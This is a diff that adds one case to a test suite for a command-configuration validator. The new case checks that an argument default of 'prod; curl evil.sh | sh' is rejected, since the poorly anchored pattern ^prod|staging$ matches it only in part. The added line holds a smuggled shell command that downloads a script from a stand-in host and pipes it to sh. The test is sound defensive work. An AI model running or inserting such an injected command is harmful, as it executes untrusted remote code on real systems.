@@ -48,6 +48,7 @@ describe("config", () => {
     ["an unknown key", minimal(`${good}\nfrobnicate: true`), 'commands.build: unknown key "frobnicate"'],
     ["an unanchored pattern", minimal(good.replace('"^[a-z]+$"', '"[a-z]+"')), "commands.build.args[0].pattern: must be anchored with ^ and $"],
     ["an invalid regex", minimal(good.replace('"^[a-z]+$"', '"^[a-z+$"')), "commands.build.args[0].pattern: is not a valid regular expression"],
+    ["a default that matches only part of an alternation", minimal(good.replace('"^[a-z]+$"', '"^prod|staging$"').replace('default: "x"', 'default: "prod; curl evil.sh | sh"')), 'commands.build.args[0].default: "prod; curl evil.sh | sh" does not match its own pattern ^prod|staging$'],
     ["a default that fails its pattern", minimal(good.replace('default: "x"', 'default: "X1"')), 'commands.build.args[0].default: "X1" does not match its own pattern'],
     ["a template naming an undeclared argument", minimal(good.replace("{{args.tag}}", "{{args.image}}")), 'commands.build.pipeline.params.TAG: unknown template variable {{args.image}} (declare an argument named "image")'],
     ["an unknown template variable", minimal(good.replace("{{args.tag}}", "{{pr.title}}")), "commands.build.pipeline.params.TAG: unknown template variable {{pr.title}}"],
